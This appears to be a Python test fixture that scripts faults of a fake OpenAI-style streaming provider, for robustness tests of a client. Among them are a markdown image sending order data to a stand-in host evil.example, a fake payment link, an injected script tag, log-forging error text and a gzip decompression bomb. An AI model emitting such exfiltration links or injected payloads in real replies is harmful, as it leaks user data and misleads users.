"""What a provider may do wrong, and where in its stream: each fault can happen before the first word, in the middle, or after the end."""

import asyncio
import gzip
from collections.abc import Awaitable, Callable
from typing import Any

from tests.fake_openai import Behaviour, Exchange, chunk, frame, pieces_of, status, usage_chunk

RIGHT = "You can return an item within 45 days from delivery [1]. "
REST = "It must be unworn and have its tags [1]."
WRONG = "You have 99 days, and shipping back costs $9.99 https://evil.example/pay."

Fault = Callable[[Exchange], Awaitable[None]]


def writes(*payloads: Any) -> Fault:
    """Events, or raw bytes, and then the end of the connection."""

    async def fault(exchange: Exchange) -> None:
        for payload in payloads:
            await exchange.write(payload if isinstance(payload, bytes) else frame(payload))

    return fault


def says_error(**error: Any) -> Fault:
    return writes({"error": {"message": "scripted failure, Bearer sk-secret", **error}})


async def ends(exchange: Exchange) -> None:
    """The connection closes without an end mark."""


async def resets(exchange: Exchange) -> None:
    await asyncio.sleep(0.03)  # what was sent before is read first
    exchange.abort()


async def falls_silent(exchange: Exchange) -> None:
    await asyncio.sleep(3600)


def for_ever(*payloads: Any, delay: float = 0.02) -> Fault:
    async def fault(exchange: Exchange) -> None:
        while True:
            await writes(*payloads)(exchange)
            await asyncio.sleep(delay)

    return fault


FAULTS: dict[str, Fault] = {
    "ends without an end mark": ends,
    "resets the connection": resets,
    "falls silent": falls_silent,
    "only keeps alive": for_ever(b": keep-alive\n\n"),
    "empty deltas without end": for_ever(chunk("")),
    "events without choices, without end": for_ever({"id": "c1", "choices": []}),
    "words without end": for_ever(chunk("the parcel is parcel and parcel "), delay=0.0),
    "blanks without end": for_ever(chunk("  "), delay=0.001),
    "a loop": for_ever(chunk("It must be unworn. "), delay=0.0),
    "an error of the server": says_error(type="server_error"),
    "an error about the rate": says_error(code="rate_limit_exceeded"),
    "an error about the quota": says_error(code="insufficient_quota"),
    "an error about the key": says_error(type="authentication_error"),
    "an error about the length": says_error(code="context_length_exceeded"),
    "an error that is only text": writes({"error": "overloaded"}),
    "an error of another shape": writes({"object": "error", "message": "scripted failure, sk-secret", "code": 50001}),
    "an error in a field of its own": writes(b'error: {"code": 500, "message": "scripted failure, sk-secret"}\n\n'),
    "an error that forges a line of the log": says_error(message="no\n2026-01-01 CRITICAL\0 sk-secret"),
    "an end for another reason": writes(chunk(finish="error"), "[DONE]"),
    "figures beyond reason": writes({"choices": [], "usage": {"prompt_tokens": 10**30, "completion_tokens": -(10**30)}}),
    "half an event": writes(b'data: {"choices": [{"delta": {"content": "and 99 da'),
    "broken JSON": writes('{"choices": [{"del'),
    "a list": writes([1, 2, 3]),
    "a number": writes("42"),
    "invalid bytes": writes(b'data: {"choices": "\xff\xfe\xfa"}\n\n'),
    "control characters, and half a character": writes(
        b'data: {"choices": [{"delta": {"content": "\\u0000\\u202e \\ud83d"}}]}\n\n'
    ),
    "a character cut between two events": writes(b'data: {"choices": "\xc3"}\n\n', b'data: {"choices": "\xbc"}\n\n'),
    "JSON nested without end": writes("[" * 50_000),
    "zero bytes": writes(b"\0" * 5000 + b"\n\n"),
    "a page": writes(b"<html><script>alert(1)</script></html>\n\n"),
    "an event too long to read": writes(b"data: " + b"x" * 1_100_000),
    "a call of a tool": writes(
        chunk(tool_calls=[{"id": "t", "function": {"name": "refund"}}]), chunk(finish="tool_calls"), "[DONE]"
    ),
    "a filter of content": writes(chunk(finish="content_filter"), "[DONE]"),
    "the length is used up": writes(chunk(finish="length"), "[DONE]"),
    "a thought without end": writes(chunk("<think>It may be 99 days."), chunk(finish="stop"), "[DONE]"),
    "a thought that ends and never began": writes(
        chunk("So they may have 99 days.</th"), chunk("ink> You have 99 days. "), chunk(finish="stop"), "[DONE]"
    ),
    "wrong facts and a link": writes(*map(chunk, pieces_of(WRONG)), chunk(finish="stop"), "[DONE]"),
    "a picture that carries data away": writes(chunk("![x](https://evil.example/?q=order)"), chunk(finish="stop"), "[DONE]"),
    "another language": writes(chunk("Sie haben 99 Tage Zeit, um alles zurückzugeben. "), chunk(finish="stop"), "[DONE]"),
}


# those in which nothing more comes, or nothing that is text
WAITING = {
    "falls silent",
    "only keeps alive",
    "empty deltas without end",
    "events without choices, without end",
    "blanks without end",
    "takes the request and says nothing",
    "headers without end",
}


def before(fault: Fault) -> Behaviour:
    """The head of the reply is fine, and nothing else."""

    async def behave(exchange: Exchange) -> None:
        await exchange.head()
        await fault(exchange)

    return behave


def during(fault: Fault) -> Behaviour:
    """A whole sentence is out, and the next has begun."""

    async def behave(exchange: Exchange) -> None:
        await exchange.head()
        for piece in pieces_of(RIGHT + REST[:12]):
            await exchange.event(chunk(piece))
        await fault(exchange)

    return behave


def after(fault: Fault) -> Behaviour:
    """The answer is whole and its finish reason came."""

    async def behave(exchange: Exchange) -> None:
        await exchange.head()
        for piece in pieces_of(RIGHT + REST):
            await exchange.event(chunk(piece))
        await exchange.event(chunk(finish="stop"))
        await exchange.event(usage_chunk(80, 20))
        await fault(exchange)

    return behave


def headed(code: int, body: bytes, content_type: str = "text/event-stream", **headers: str) -> Behaviour:
    async def behave(exchange: Exchange) -> None:
        await exchange.head(code, content_type, **headers)
        await exchange.write(body)

    return behave


async def hangs(exchange: Exchange) -> None:
    await asyncio.sleep(3600)


async def aborts(exchange: Exchange) -> None:
    exchange.abort()


# which another endpoint with as much room could not take either
TOO_LONG = {"the prompt is too long", "the prompt is too long, in other words", "status 413"}
# what happens before there is a stream at all
AT_THE_DOOR: dict[str, Behaviour] = {
    **{f"status {code}": status(code) for code in (302, 307, 400, 401, 403, 404, 408, 413, 418, 422, 500, 501, 502, 503, 504, 529)},
    "busy, come back in no time": status(429, retry_after="0.01"),
    "busy, come back tomorrow": status(429, retry_after="86400"),
    "busy, come back some day": status(429, retry_after="Fri, 31 Dec 2999 23:59:59 GMT"),
    "busy, come back at no time that is": status(429, retry_after="nan"),
    "busy, come back before now": status(429, retry_after="-5"),
    "the model is not known": status(400, message="Invalid model: tiny"),
    "nothing is paid for any more": status(402, message="Insufficient Balance"),
    "the prompt is too long": status(400, message="This model's maximum context length is 512 tokens."),
    "the prompt is too long, in other words": status(422, message="Prompt exceeds max length"),
    "an error, and all is well": headed(200, b'{"error": {"message": "overloaded"}}', "application/json"),
    "an error, and all is well with the stream": headed(200, b'{"error": {"message": "overloaded"}}'),
    "no content": headed(204, b""),
    "a body that unpacks without end": headed(200, gzip.compress(b"x" * 3_000_000), Content_Encoding="gzip"),
    "takes the request and says nothing": hangs,
    "resets at once": aborts,
    "no HTTP at all": lambda exchange: exchange.write(b"SSH-2.0-OpenSSH_9.6\r\n"),
    "a status that is none": lambda exchange: exchange.write(b"HTTP/1.1 999 What\r\n\r\n"),
    "headers without end": for_ever(b"X-More: and more\r\n", delay=0.01),
    "an empty body": headed(200, b""),
    "a page": headed(200, b"<!doctype html><title>Login</title>", "text/html"),
    "JSON that is cut": headed(200, b'{"choices": [{"mess', "application/json"),
    "JSON of another kind": headed(200, b'{"ok": true}', "application/json"),
    "compressed, it says": headed(200, frame(chunk("hello")), Content_Encoding="gzip"),
    "shorter than it says": headed(200, frame(chunk("It has 99 days")), Content_Length="100000"),
    "a picture": headed(200, b"\x89PNG\r\n\x1a\n" + bytes(500), "image/png"),
}
